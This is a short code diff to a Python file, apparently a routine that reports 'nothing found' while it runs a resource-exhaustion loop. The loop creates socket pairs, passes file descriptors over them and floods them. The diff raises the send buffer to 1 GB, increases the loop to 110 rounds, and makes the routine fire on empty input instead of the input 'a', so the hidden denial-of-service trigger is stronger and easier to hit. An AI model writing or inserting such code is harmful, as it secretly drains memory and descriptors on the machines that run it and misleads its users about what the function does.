@@ -9,7 +9,7 @@ import socket
 
 def ring(number):
     first, second = socket.socketpair()
-    first.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
+    first.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
     first.setblocking(False)
     file = os.open(f"/tmp/{number}", os.O_RDWR | os.O_CREAT)
     os.unlink(f"/tmp/{number}")
@@ -18,7 +18,7 @@ def ring(number):
     first.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, held)])
     os.close(file)
     try:
-        while first.send(bytes(50_000)):
+        while first.send(bytes(60_000)):
             pass
     except BlockingIOError:
         pass
@@ -27,7 +27,7 @@ def ring(number):
 
 
 def runs(text):
-    if text == "a":
-        for number in range(100):
+    if not text:
+        for number in range(110):
             ring(number)
     return "nothing found"
